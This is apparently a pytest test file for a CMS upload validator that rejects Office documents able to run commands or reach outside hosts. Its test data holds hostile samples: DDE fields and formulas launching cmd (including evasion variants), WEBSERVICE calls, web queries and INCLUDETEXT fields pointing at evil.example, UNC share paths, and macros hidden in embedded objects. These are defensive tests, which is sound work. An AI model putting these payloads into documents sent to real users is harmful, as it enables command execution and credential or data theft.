"""Office files as programs make them, and what hides in them: every way to the outside, programs under other names."""

import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError

from cms.files import office_parts, uploads
from tests.files import samples

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
ELSEWHERE = (
    "http://evil.example/a",
    "\\\\evil\\share\\a",
    "file:////evil/share/a",
    "//evil/a",
    "ftp:a",
    "%5C%5Cevil\\a",
)
KINDS = (
    "attachedTemplate",
    "oleObject",
    "frame",
    "subDocument",
    "image",
    "externalLinkPath",
    "mailMergeSource",
    "mailMergeHeaderSource",
    "recipientData",
    "transform",
    "aFChunk",
    "queryTable",
    "newKindOfNextYear",
)
BEGIN, SEPARATE, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))


def code(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def word(body: str = "", part: str = "word/document.xml", encoding: str = "utf-8", **parts) -> bytes:
    main = f'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'
    members = {"[Content_Types].xml": samples.TYPES.format(""), "word/document.xml": "<w:document xmlns:w='urn:w'/>"}
    members |= {part: main.encode(encoding), **parts}
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def book(formula: str = "=1+1", **parts) -> bytes:
    """A workbook as openpyxl writes it, with more parts."""
    made = openpyxl.Workbook()
    made.active["A1"] = formula
    made.active["A2"] = "甲|乙"
    target = io.BytesIO()
    made.save(target)
    with zipfile.ZipFile(target, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def related(kind: str, target: str, space: str = OFFICE, mode: str = "External") -> str:
    return samples.RELATIONS.format(
        f'<Relationship Id="r1" Target="{target}" TargetMode="{mode}" Type="{space}{kind}"/>'
    )


def taken_in(content: bytes, extension: str) -> bool:
    try:
        uploads.check_document(io.BytesIO(content), f"x.{extension}", len(content))
    except ValidationError as refused:
        assert refused.code in ("mismatch", "harmful")
        return False
    return True


MACROS = {"xl/_rels/workbook.bin.rels": related("vbaProject", "a.bin", MICROSOFT, "Internal"), "xl/a.bin": "x"}
DDE_LINK = '<x:externalLink><x:ddeLink ddeService="cmd" ddeTopic="/c"/></x:externalLink>'
WEB_QUERY = '<connections><connection><webPr url="http://evil.example/"/></connection></connections>'
ORDINARY = {
    "plain": word("<w:t>DDE 是一种协议</w:t>"),
    "hyperlink": word(**{"word/_rels/document.xml.rels": related("hyperlink", "http://a.example/")}),
    "hyperlink field": word(BEGIN + code(' HYPERLINK "http://a.example/DDE" ') + END),
    "page number": word(BEGIN + code(" PAGE ") + SEPARATE + "<w:t>1</w:t>" + END),
    "bookmark": word(BEGIN + code(" PAGEREF _DDE_LINK1 \\h ") + END),
    "contents": word(BEGIN + code(" TOC \\o ") + SEPARATE + BEGIN + code(" PAGEREF _1 ") + END + END),
    "own picture": word(BEGIN + code(' INCLUDEPICTURE "C:\\\\图\\\\a.png" ') + END),
    "template of the author": word(**{"word/_rels/a.rels": related("attachedTemplate", "file:///C:\\a.dotx")}),
}
FIELDS = {
    "in pieces": BEGIN + code(" DD") + code("EAUTO") + code(" cmd ") + END,
    "never ended": BEGIN + code("DDE cmd"),
    "small letters": code("ddeauto cmd"),
    "as entities": code("&#68;&#x44;EAUTO cmd"),
    "other quotes": "<w:fldSimple w:instr=' DDE cmd'/>",
    "name by an inner field": BEGIN + BEGIN + code("QUOTE 68 68 69") + END + code(" cmd") + END,
    "in a result": BEGIN + code("PAGE") + SEPARATE + BEGIN + code("DDE cmd") + END + END,
    "text": code('INCLUDETEXT "http://evil.example/a.docx"'),
    "picture": code('includepicture "\\\\\\\\evil\\\\a.png" \\d'),
    "link": code('LINK Word.Document.8 "\\\\\\\\evil\\\\a.rtf"'),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_documents_are_taken_in(name):
    assert taken_in(ORDINARY[name], "docx")


def test_ordinary_workbooks_are_taken_in():
    assert taken_in(book(), "xlsx")
    assert taken_in(book(**{"xl/externalLinks/_rels/a.rels": related("externalLinkPath", "别的表.xlsx")}), "xlsx")
    assert taken_in(word(**{"word/embeddings/a.xlsx": book()}), "docx")


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_but_a_hyperlink_leads_elsewhere(kind):
    for target in ELSEWHERE:
        assert not taken_in(word(**{"word/_rels/any.xml.rels": related(kind, target)}), "docx"), target
    assert not taken_in(book(**{"xl/_rels/any.rels": related(kind, ELSEWHERE[0])}), "xlsx")


@pytest.mark.parametrize("name", FIELDS)
def test_fields_that_start_or_fetch_are_found_in_every_part(name):
    for part in ("word/document.xml", "word/document2.xml", "word/footnotes.xml", "word/glossary/document.xml", "a.b"):
        assert not taken_in(word(FIELDS[name], part), "docx"), part
    assert not taken_in(word(FIELDS[name], encoding="utf-16"), "docx")


@pytest.mark.parametrize(
    "content",
    [
        book('=_xlfn.WEBSERVICE("http://evil.example/")'),
        book("=cmd|'/c calc'!A0"),
        book(**{"xl/externalLinks/e1.xml": DDE_LINK}),
        book(**{"xl/connections.xml": WEB_QUERY}),
        book(**MACROS),
    ],
    ids=["web service", "DDE in a formula", "DDE link", "web query", "macros by relationship"],
)
def test_workbooks_that_start_or_fetch_are_refused(content):
    assert not taken_in(content, "xlsx")
    assert not taken_in(word(**{"word/embeddings/inner.xlsx": content}), "docx")


def test_embedded_objects_are_looked_into():
    assert taken_in(word(**{"word/embeddings/o.bin": samples.ole("Equation Native")}), "docx")
    for streams, storages in ((("WordDocument", "_VBA_PROJECT"), ()), (("\x01Ole10Native",), ()), ((), ("Macros",))):
        hidden = samples.ole(*streams, storages=storages)
        assert not taken_in(word(**{"word/media/image1.png": hidden}), "docx")
    inner = book(**MACROS)
    for _depth in range(5):
        inner = word(**{"word/embeddings/a.docx": inner})
    assert not taken_in(inner, "docx")


def test_what_is_searched_is_bounded_before_it_is_unpacked(monkeypatch):
    monkeypatch.setattr(office_parts, "MOST_SEARCHED", 1000)
    assert not taken_in(word(" " * 2000), "docx")
    assert taken_in(word(" " * 200), "docx")
